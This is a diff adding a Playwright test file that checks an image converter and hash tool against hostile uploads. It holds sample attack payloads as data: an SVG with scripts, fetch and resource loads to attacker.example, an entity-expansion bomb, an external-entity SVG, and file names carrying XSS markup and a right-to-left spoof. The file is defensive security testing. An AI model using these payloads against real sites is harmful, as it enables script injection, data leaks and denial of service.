@@ -1,0 +1,92 @@
+import type { Page } from "@playwright/test";
+import { expect, open, test } from "./test.ts";
+
+// A request to elsewhere, an exception or an error in the console fails each of these by itself.
+
+const svg = (inside: string, before = "") =>
+  Buffer.from(
+    `${before}<svg xmlns="http://www.w3.org/2000/svg" xmlns:xlink="http://www.w3.org/1999/xlink" width="40" height="30" onload="parent.injected = 1"><rect width="40" height="30" fill="#c8321e"/>${inside}</svg>`,
+  );
+
+const HOSTILE_SVG = svg(`
+  <script>window.injected = 1; fetch("https://attacker.example/script")</script>
+  <style>@import url(https://attacker.example/style.css); rect { fill: url(https://attacker.example/fill.svg#a) }</style>
+  <image href="https://attacker.example/picture.png" width="9" height="9"/>
+  <image xlink:href="https://attacker.example/old.png" width="9" height="9" onerror="window.injected = 1"/>
+  <use href="https://attacker.example/use.svg#a"/>
+  <foreignObject width="9" height="9"><div xmlns="http://www.w3.org/1999/xhtml">
+    <img src="https://attacker.example/html.png" onerror="window.injected = 1"/><iframe src="https://attacker.example/"/>
+  </div></foreignObject>
+  <a href="javascript:window.injected = 1"><animate attributeName="href" to="javascript:window.injected = 1"/></a>`);
+
+const ENTITIES = Array.from({ length: 9 }, (_, level) => {
+  const name = String.fromCharCode(97 + level);
+  const before = level === 0 ? "ha" : `&${String.fromCharCode(96 + level)};`.repeat(20);
+  return `<!ENTITY ${name} "${before}">`;
+});
+const BOMB = svg("<text>&i;</text>", `<?xml version="1.0"?><!DOCTYPE svg [${ENTITIES.join("")}]>`);
+const EXTERNAL_ENTITY = svg(
+  "<text>&x;</text>",
+  '<?xml version="1.0"?><!DOCTYPE svg [<!ENTITY x SYSTEM "https://attacker.example/entity">]>',
+);
+
+const hasRun = (page: Page) => page.evaluate(() => "injected" in window);
+
+async function convert(page: Page, name: string, buffer: Buffer) {
+  await open(page, "/Images/Images-converter?format=png");
+  await page.getByLabel("Choose images").setInputFiles({ name, mimeType: "image/svg+xml", buffer });
+  await page.getByRole("button", { name: "Convert now" }).click();
+}
+
+test("an SVG's scripts do not run, and what it refers to elsewhere is not loaded", async ({ page }) => {
+  await convert(page, "hostile.svg", HOSTILE_SVG);
+  await expect(page.getByRole("button", { name: "Download hostile.png" })).toBeVisible();
+  expect(await hasRun(page)).toBe(false);
+});
+
+for (const [name, bytes] of [
+  ["entities that grow to gigabytes", BOMB],
+  ["an entity that is a file elsewhere", EXTERNAL_ENTITY],
+] as const) {
+  test(`an SVG with ${name}: the page goes on`, async ({ page }) => {
+    await convert(page, "bomb.svg", bytes);
+    await expect(
+      page
+        .getByRole("alert")
+        .filter({ hasText: /./ })
+        .or(page.getByRole("button", { name: "Download bomb.png" }))
+        .first(),
+    ).toBeVisible();
+    expect(await hasRun(page)).toBe(false);
+    await page.getByRole("contentinfo").getByRole("link", { name: "About" }).click();
+    await expect(page.getByRole("heading", { level: 1, name: "About" })).toBeVisible();
+  });
+}
+
+test("names of files are text: markup, quotes, and letters that turn the line around", async ({ page }) => {
+  const names = [
+    "<img src=x onerror='window.injected=1'>.png",
+    '"><script>window.injected=1</script>.png',
+    "photo\u202Egpj.exe.png",
+    "%3Cb%3E&lt;b&gt;{{7*7}}.png",
+  ];
+  const { readFile } = await import("node:fs/promises");
+  const buffer = await readFile("e2e/fixtures/files/picture.png");
+  const files = names.map((name) => ({ name, mimeType: "image/png", buffer }));
+  await open(page, "/Images/Images-converter?format=jpg");
+  await page.getByLabel("Choose images").setInputFiles(files);
+  for (const name of names) await expect(page.getByText(name, { exact: true }).first()).toBeVisible();
+  await page.getByRole("button", { name: "Convert now" }).click();
+  await expect(page.getByRole("button", { name: /^Download .*\.jpg$/ })).toHaveCount(names.length);
+
+  await open(page, "/Security/Hash?source=files");
+  await page.getByLabel("Choose files").setInputFiles(files);
+  for (const name of names) await expect(page.getByText(name, { exact: true }).first()).toBeVisible();
+
+  for (const tool of ["Dither", "Blur"]) {
+    await open(page, `/Images/${tool}`);
+    await page.getByLabel("Choose an image").setInputFiles(files[0] ?? []);
+    await expect(page.getByText(names[0] ?? "", { exact: true })).toBeVisible();
+  }
+  expect(await hasRun(page)).toBe(false);
+});
